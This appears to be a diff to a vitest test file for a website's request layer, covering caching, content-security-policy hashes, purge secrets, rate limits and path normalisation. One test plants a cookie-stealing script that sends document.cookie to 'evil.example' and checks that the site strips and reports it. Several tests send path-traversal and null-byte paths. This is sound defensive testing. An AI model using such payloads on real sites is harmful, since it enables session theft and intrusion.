@@ -11,6 +11,7 @@ import { brotliDecompressSync, gunzipSync } from "node:zlib";
 import { pino } from "pino";
 import { afterEach, expect, test, vi } from "vitest";
 import { memoryRateLimiter } from "#/server/http/rate-limiter.ts";
+import { pageBudget } from "./page-budget.ts";
 import { createRequestListener } from "./request-listener.ts";
 import { securityHeaders } from "./security-headers.ts";
 import { createSite, PURGE_SECRET_HEADER, type Site } from "./site.ts";
@@ -31,9 +32,17 @@ afterEach(() => {
 });
 
 /** The site behind its door, in front of a renderer that a test writes itself. */
-async function open(handler: RequestListener) {
+async function open(
+  handler: RequestListener,
+  { files, most = 1_500 }: { files?: ReadonlySet<string>; most?: number } = {},
+) {
   const security = securityHeaders(siteUrl.origin);
-  const site: Site = createSite({ handler, siteUrl, security, purgeSecret: "s".repeat(32) });
+  const told: string[] = [];
+  const site: Site = createSite({
+    ...{ handler, siteUrl, security, purgeSecret: "s".repeat(32) },
+    ...(files && { files }),
+    report: (dropped) => void told.push(...dropped),
+  });
   const lines: string[] = [];
   const log = pino({ level: "info" }, { write: (line: string) => void lines.push(line) });
   const server = createServer(
@@ -43,7 +52,7 @@ async function open(handler: RequestListener) {
       siteUrl,
       trustedProxies: 0,
       siteSecret: "s".repeat(32),
-      limiter: memoryRateLimiter(Date.now),
+      budget: pageBudget(memoryRateLimiter(Date.now), most),
       security,
       log,
     }),
@@ -63,9 +72,11 @@ async function open(handler: RequestListener) {
       sent.on("error", reject);
       sent.end();
     });
-  return { get, site, lines };
+  return { get, site, lines, told };
 }
 
+/** A script as the renderer writes it. */
+const OWN = 'self.__next_f.push([1,"a"])';
 const page = (script: string, text = "") =>
   `<!doctype html><html><script>${script}</script><p>${text || "word ".repeat(300)}</p></html>`;
 const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
@@ -74,7 +85,7 @@ test("a public page is rendered once, without a trace of who asked first, and na
   const seen: IncomingHttpHeaders[] = [];
   const { get } = await open((incoming, response) => {
     seen.push(incoming.headers);
-    response.writeHead(200, PUBLIC).end(page("a()"));
+    response.writeHead(200, PUBLIC).end(page(OWN));
   });
   const first = await get("/en", {
     cookie: "token=canary",
@@ -85,12 +96,26 @@ test("a public page is rendered once, without a trace of who asked first, and na
   expect(seen).toHaveLength(1);
   expect(JSON.stringify(seen)).not.toMatch(/canary|accept-language/);
   expect(first.body.equals(second.body)).toBe(true);
-  expect(second.headers["content-security-policy"]).toContain(`script-src 'self' ${hashOf("a()")};`);
+  expect(second.headers["content-security-policy"]).toContain(`script-src 'self' ${hashOf(OWN)};`);
   expect(second.headers["cache-control"]).toBe("public, max-age=0, s-maxage=60, stale-while-revalidate=300");
 });
 
+test("an injected script leaves a kept page before it leaves, is vouched for by nobody, and is told of", async () => {
+  const injected = "fetch('https://evil.example/'+document.cookie)";
+  const { get, told } = await open(
+    (_request, response) =>
+      void response.writeHead(200, PUBLIC).end(page(OWN, `<img src=x><script>${injected}</script>`)),
+  );
+  for (let asked = 0; asked < 2; asked += 1) {
+    const { headers, body } = await get("/en");
+    expect(String(body)).not.toContain("evil.example");
+    expect(headers["content-security-policy"]).toContain(`script-src 'self' ${hashOf(OWN)};`);
+  }
+  expect(told).toEqual([injected]);
+});
+
 test("a page is sent as Brotli, gzip or plain, each with its own tag, and not again when unchanged", async () => {
-  const html = page("a()");
+  const html = page(OWN);
   const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end(html));
   const [br, gz, plain] = [
     await get("/en", { "accept-encoding": "gzip, br" }),
@@ -129,9 +154,7 @@ test.each([
   [404, PRIVATE],
   [500, PRIVATE],
 ])("every answer of status %i leaves with the security headers and a request id", async (status, headers) => {
-  const { get } = await open(
-    (_request, response) => void response.writeHead(status, headers).end(page("a()")),
-  );
+  const { get } = await open((_request, response) => void response.writeHead(status, headers).end(page(OWN)));
   const answer = await get("/en/x", { "x-request-id": "given-request-1" });
   expect(answer.status).toBe(status);
   expect(answer.headers).toMatchObject({
@@ -160,7 +183,7 @@ test("a renderer that breaks gives a plain 500 that tells nothing of the inside"
 
 test("the start page follows the visitor's cookie, so no shared cache may keep it", async () => {
   const { get } = await open((incoming, response) => {
-    response.writeHead(200, PUBLIC).end(page("a()", incoming.headers.cookie ?? "none"));
+    response.writeHead(200, PUBLIC).end(page(OWN, incoming.headers.cookie ?? "none"));
   });
   const [en, fr] = [await get("/", { cookie: "RFI_LOCALE_COOKIE=en" }), await get("/")];
   expect([en, fr].map(({ headers }) => headers["cache-control"])).toEqual([
@@ -185,8 +208,7 @@ test("a purge tells the site the tags with the secret, and the next visitor gets
   let text = "old";
   const purged: unknown[] = [];
   const { get, site } = await open((incoming, response) => {
-    if (incoming.url !== "/internal/purge")
-      return void response.writeHead(200, PUBLIC).end(page("a()", text));
+    if (incoming.url !== "/internal/purge") return void response.writeHead(200, PUBLIC).end(page(OWN, text));
     let body = "";
     incoming.on("data", (chunk) => {
       body += chunk;
@@ -206,8 +228,7 @@ test("a purge tells the site the tags with the secret, and the next visitor gets
 test("a purge from another process that holds the secret renews the pages too, one that does not changes nothing", async () => {
   let text = "old";
   const { get } = await open((incoming, response) => {
-    if (incoming.url !== "/internal/purge")
-      return void response.writeHead(200, PUBLIC).end(page("a()", text));
+    if (incoming.url !== "/internal/purge") return void response.writeHead(200, PUBLIC).end(page(OWN, text));
     response.writeHead(incoming.headers[PURGE_SECRET_HEADER] === "right" ? 204 : 404).end();
   });
   await get("/en");
@@ -219,7 +240,7 @@ test("a purge from another process that holds the secret renews the pages too, o
 });
 
 test("HEAD has the length of GET and no body", async () => {
-  const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end(page("a()")));
+  const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end(page(OWN)));
   const whole = await get("/en");
   const head = await get("/en", {}, "HEAD");
   expect([head.headers["content-length"], head.body.length]).toEqual([whole.headers["content-length"], 0]);
@@ -285,7 +306,7 @@ test("a missing page is the site's whole 404 document in the language of its add
     expect([missing.status, String(missing.body)]).toEqual([404, `<html lang="${lang}">whole</html>`]);
     expect((await get(`/${lang}/404`)).status).toBe(404);
   }
-  const odd = await get("/fr/%2e%2e/nowhere");
+  const odd = await get("/fr/no%2fwhere");
   expect([odd.status, String(odd.body)]).toEqual([404, '<html lang="fr">whole</html>']);
 });
 
@@ -315,6 +336,73 @@ test("who asks for more than 300 pages of results in five minutes waits; other p
   expect(Number(refused.headers["retry-after"])).toBeGreaterThan(0);
   expect((await get("/en/our-composers?letter=A")).status).toBe(429);
   expect((await get("/en/albums")).status).toBe(200);
+});
+
+test("no other spelling of a page of results is asked for", async () => {
+  const asked: (string | undefined)[] = [];
+  const { get } = await open((incoming, response) => {
+    asked.push(incoming.url);
+    response.writeHead(200, PRIVATE).end("x");
+  });
+  const odd = ["/fr/./recherche/x", "/fr/x/../recherche/x", "/de/../fr/recherche/x", "/\\x/fr/recherche/x"];
+  for (const path of [...odd, "/fr/../media/images/%00.jpg"]) expect((await get(path)).status).toBe(400);
+  const redirected = await get("/fr//%72echerche/x/?page=2");
+  expect([redirected.status, redirected.headers.location]).toEqual([308, "/fr/recherche/x?page=2"]);
+  expect(asked).toEqual([]);
+});
+
+test("a visitor has so many pages drawn in five minutes; those in memory and files are not counted", async () => {
+  const files = new Set(["/favicon.ico", "/_next/static/[lang].js"]);
+  const { get } = await open(
+    (incoming, response) =>
+      void response.writeHead(200, incoming.url === "/fr/kept" ? PUBLIC : PRIVATE).end(page(OWN)),
+    { files, most: 20 },
+  );
+  await get("/fr/kept");
+  for (let asked = 0; asked < 50; asked += 1) {
+    expect((await get("/fr/kept")).status).toBe(200);
+    expect((await get(`/favicon.ico?${asked}`)).status).toBe(200);
+    expect((await get("/_next/static/%5Blang%5D.js")).status).toBe(200);
+  }
+  for (let asked = 1; asked < 20; asked += 1) expect((await get(`/fr/user/${asked}`)).status).toBe(200);
+  const refused = await get("/fr/user/more");
+  expect(refused.status).toBe(429);
+  expect(Number(refused.headers["retry-after"])).toBeGreaterThan(0);
+  expect((await get("/fr/kept")).status).toBe(200);
+});
+
+test("whoever walks addresses that are no pages waits after a fifth as many", async () => {
+  let drawn = 0;
+  const { get } = await open(
+    (incoming, response) => {
+      drawn += 1;
+      const isPage = incoming.url?.startsWith("/fr/is") || incoming.url === "/fr/404";
+      response.writeHead(isPage ? 200 : 404, PRIVATE).end(page(OWN));
+    },
+    { most: 50 },
+  );
+  for (let asked = 0; asked < 20; asked += 1) expect((await get(`/fr/is${asked}`)).status).toBe(200);
+  const statuses = [];
+  for (let asked = 0; asked < 30; asked += 1) statuses.push((await get(`/fr/not${asked}`)).status);
+  expect(statuses.filter((status) => status === 404)).toHaveLength(10);
+  expect(statuses.filter((status) => status === 429)).toHaveLength(20);
+  expect(drawn).toBeLessThan(60);
+});
+
+test("a file that the build does not hold is a 404 out of memory", async () => {
+  const asked: (string | undefined)[] = [];
+  const { get } = await open(
+    (incoming, response) => {
+      asked.push(incoming.url);
+      response.writeHead(incoming.url === "/fr/404" ? 200 : 500, PUBLIC).end(page(OWN, "lost"));
+    },
+    { files: new Set<string>() },
+  );
+  for (let name = 0; name < 20; name += 1) {
+    const answer = await get(`/_next/static/chunks/${name}.js`);
+    expect([answer.status, answer.body.toString().includes("lost")]).toEqual([404, true]);
+  }
+  expect(asked).toEqual(["/fr/404"]);
 });
 
 test.each([
@@ -356,30 +444,26 @@ test("a target that mending makes too long is refused", async () => {
 });
 
 test("only the embedded player may stand in a frame of another site", async () => {
-  const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end(page("a()")));
+  const { get } = await open((_request, response) => void response.writeHead(200, PUBLIC).end(page(OWN)));
   for (const path of ["/embed/fr/delta", "/embed/en/delta?autoplay=1"]) {
     const { headers } = await get(path);
     expect(headers["content-security-policy"]).toContain("frame-ancestors *;");
     expect(headers["x-frame-options"]).toBeUndefined();
     expect(headers["x-content-type-options"]).toBe("nosniff");
   }
-  for (const path of [
-    "/fr",
-    "/fr/embed/delta",
-    "/embed/fr/a/b",
-    "/embed/de/delta",
-    "/embed/fr/%2e%2e/user",
-  ]) {
+  for (const path of ["/fr", "/fr/embed/delta", "/embed/fr/a/b", "/embed/de/delta"]) {
     const { headers } = await get(path);
     expect(headers["content-security-policy"]).toContain("frame-ancestors 'none';");
     expect(headers["x-frame-options"]).toBe("deny");
   }
+  const odd = await get("/embed/fr/%2e%2e/user");
+  expect([odd.status, odd.headers["x-frame-options"]]).toEqual([400, "deny"]);
 });
 
 test("a file that is not there is the site's 404 document, without a language in the default one", async () => {
   const { get } = await open((incoming, response) => {
     const isDocument = /^\/(fr|en)\/404$/.test(incoming.url ?? "");
-    response.writeHead(isDocument ? 200 : 404, PUBLIC).end(page("a()", `lost ${incoming.url}`));
+    response.writeHead(isDocument ? 200 : 404, PUBLIC).end(page(OWN, `lost ${incoming.url}`));
   });
   for (const [path, lang] of [
     ["/wp-login.php", "fr"],
